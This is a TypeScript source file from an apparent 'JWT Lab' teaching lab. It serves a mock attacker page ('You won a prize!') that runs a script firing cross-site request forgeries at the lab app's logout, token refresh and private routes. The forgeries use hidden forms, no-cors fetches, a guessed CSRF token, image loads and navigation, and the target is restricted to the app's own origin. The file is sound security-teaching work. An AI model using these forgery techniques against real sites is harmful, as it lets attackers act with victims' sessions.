import { ApiError } from '../errors/api-error.js';
import type { App } from '../http/typed-app.js';
import { escapeHtml } from '../http/escape-html.js';
import { CrossSitePageQuery } from '@jwt-lab/shared';
import type { IsAppPage } from './site-origins.js';

/**
 * The attacker's page: what any site the victim visits could do. Opened with the app's origin as
 * `target`, it fires forged requests at the app's state-changing routes the moment it loads. The
 * lab then reads, from the app, which check refused each one. Without `strategy` it fires the four
 * classic forgeries; with one, the forgeries that strategy is exposed to (see CrossSitePageQuery).
 * With `leave`, it leaves once they are out, so a run of many leaves no tabs behind.
 */
export async function crossSitePage(site: App, { isAppPage }: { isAppPage: IsAppPage }) {
  site.get('/', async (_request, reply) => reply.type('text/html; charset=utf-8').send(INDEX_PAGE));

  site.get(
    '/csrf',
    // An HTML page: no JSON response schema; errors still go through the one error handler.
    { schema: { querystring: CrossSitePageQuery } },
    async (request, reply) => {
      const { target, run = 'unlabelled', strategy = 'classic', leave = 'false' } = request.query;
      // Only the app's own pages: this demo must not become a tool against other sites.
      if (!isAppPage(target)) throw new ApiError('invalid_request', 'target must be the origin of the JWT Lab page (on loopback, or PUBLIC_URL).');
      return reply
        .header(
          'content-security-policy',
          `default-src 'none'; script-src 'self'; connect-src ${target}; img-src ${target}; form-action ${target}; frame-src ${target}; base-uri 'none'; frame-ancestors 'none'`,
        )
        .header('cache-control', 'no-store')
        .type('text/html; charset=utf-8')
        .send(attackPage(target, run, strategy, leave));
    },
  );

  site.get('/csrf.js', async (_request, reply) => reply.type('text/javascript; charset=utf-8').header('cache-control', 'no-store').send(ATTACK_SCRIPT));
}

const INDEX_PAGE = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Attacker's site (JWT Lab demo)</title></head>
<body><main><h1>The attacker's site</h1>
<p>Part of JWT Lab's attack lab: a different site from the app, on loopback only. It collects what an
injected script steals (<a href="/loot">/loot</a>, one record at /loot/<var>id</var>), replays stolen tokens from its own server, and
serves a page that forges requests to the app. Turn it off with ATTACK_LAB=false.</p></main></body></html>
`;

function attackPage(target: string, run: string, strategy: string, leave: 'true' | 'false'): string {
  return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>You won a prize! (the attacker's page)</title></head>
<body data-target="${escapeHtml(target)}" data-run="${escapeHtml(run)}" data-strategy="${escapeHtml(strategy)}" data-leave="${leave}">
<main>
<h1>You won a prize!</h1>
<p>This is the attacker's page of JWT Lab's attack lab, on a different site from the app. Any site you
visit could do what it just did: make your browser send requests to <code>${escapeHtml(target)}</code>.</p>
<h2>Forged requests</h2>
<ol id="attempts"></ol>
<p>Whether they worked is not visible from here. The lab on the app's page shows what the app received and which check refused each one.</p>
<form id="forged-form" method="post" target="sink"><input type="hidden" name="confirm" value="yes"></form>
<iframe name="sink" title="Where the forged form's answer lands" hidden></iframe>
</main>
<script src="/csrf.js"></script>
</body>
</html>
`;
}

/** Runs in the attacker's page; the CSP there allows scripts from the attacker's own origin only. */
const ATTACK_SCRIPT = `'use strict';
const { target, run, strategy, leave } = document.body.dataset;
const attempts = document.getElementById('attempts');
const say = (text) => {
  const item = document.createElement('li');
  item.textContent = text;
  attempts.append(item);
};
const at = (path) => target + path + '?run=' + encodeURIComponent(run);

// Each forgery answers a promise that settles once the browser has sent it (or given up), so the
// page knows when it may leave: navigating or closing earlier would cancel what is still in flight.
const SETTLE_MS = 3000;
const settled = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, SETTLE_MS))]);

// The classic: a hidden form, submitted at once. A form can send only form or text bodies.
function hiddenForm(path) {
  const form = document.getElementById('forged-form');
  const sink = document.querySelector('iframe[name="sink"]');
  const landed = new Promise((resolve) => sink.addEventListener('load', resolve, { once: true }));
  form.action = at(path);
  form.submit();
  say('Submitted a hidden form: POST ' + path + ' with a form body, answer into a hidden frame.');
  return landed;
}

// A fetch the browser sends without asking anyone ("no-cors", a text body); its answer stays hidden.
function textFetch(path) {
  return fetch(at(path), { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).then(
    () => say('Sent fetch POST ' + path + ' with a text body (no-cors: the answer is hidden from this page).'),
    () => say('fetch POST ' + path + ' could not be sent.'),
  );
}

// A JSON fetch with a guessed CSRF token: cross-origin JSON needs the app's permission first (a CORS preflight).
function jsonFetch(path) {
  return fetch(at(path), {
    method: 'POST',
    credentials: 'include',
    headers: { 'content-type': 'application/json', 'x-csrf-token': 'guessed-token' },
    body: '{}',
  }).then(
    (response) => say('JSON fetch POST ' + path + ' was answered ' + response.status + '.'),
    () => say('JSON fetch POST ' + path + ' with X-CSRF-Token: the browser asked the app for permission (preflight), got none, and never sent it.'),
  );
}

// No body, so no Content-Type: the one cross-site POST that reaches a JSON API's handler at all.
// Whether it works is up to SameSite (does the cookie ride along?), the Origin check and the CSRF token.
function bodilessFetch(path) {
  return fetch(at(path), { method: 'POST', mode: 'no-cors', credentials: 'include' }).then(
    () => say('Sent fetch POST ' + path + ' with no body (no-cors: the answer is hidden from this page).'),
    () => say('fetch POST ' + path + ' could not be sent.'),
  );
}

// An image: a cross-site GET that needs no permission; SameSite alone decides whether the cookie rides along.
function image(path) {
  return new Promise((resolve) => {
    const picture = new Image();
    picture.addEventListener('error', () => resolve(say('Image GET ' + path + ': refused (and it is not an image anyway).')));
    picture.addEventListener('load', () => resolve(say('Image GET ' + path + ' loaded.')));
    picture.src = at(path);
  });
}

// The last forgery, when there is one: this very window goes to the app. A top-level GET navigation
// is the one cross-site request a SameSite=Lax cookie rides along on, and a browser that blocks
// third-party cookies still sends it (the app is then the first party). Strict keeps it off.
const topLevelNavigation = (path) => () => {
  say('Navigating this window to GET ' + path + ' (a top-level navigation).');
  // replace, not assign: a window whose history holds one page stays closable by the run that opened
  // it, though its opener link was cut (with two, only the visitor may close it).
  location.replace(at(path));
};

const FORGERIES = {
  classic: [() => hiddenForm('/api/auth/logout-all'), () => textFetch('/api/auth/logout'), () => jsonFetch('/api/auth/logout-all'), () => image('/api/private')],
  // Cookies ride along on every request the browser sends to the app, if SameSite lets them.
  cookie: [
    () => hiddenForm('/api/auth/logout-all'),
    () => textFetch('/api/auth/logout'),
    () => jsonFetch('/api/auth/logout-all'),
    () => image('/api/private'),
    () => bodilessFetch('/api/auth/logout'),
    () => bodilessFetch('/api/auth/refresh'),
  ],
  // Only the refresh cookie is ambient: a forged refresh is the one thing worth trying.
  memory: [() => hiddenForm('/api/auth/refresh'), () => jsonFetch('/api/auth/refresh'), () => bodilessFetch('/api/auth/refresh')],
  // Nothing is ambient: no browser adds an Authorization header by itself. Tried anyway, to show it.
  header: [() => bodilessFetch('/api/auth/logout'), () => image('/api/private')],
  dpop: [() => bodilessFetch('/api/auth/logout'), () => image('/api/private')],
};
/** How the page leaves once the forgeries above are out, when its opener asked it to: go to the app, or close. */
const LAST_STEP = { cookie: topLevelNavigation('/api/private') };
const closeThisWindow = () => {
  say('Done: closing this window.');
  window.close();
};

const forged = Promise.all((FORGERIES[strategy] ?? FORGERIES.classic).map((forge) => settled(forge())));
if (leave === 'true') forged.then(LAST_STEP[strategy] ?? closeThisWindow);
else forged.then(() => say('Done. This page stays open so you can read it; close it when you like.'));
`;
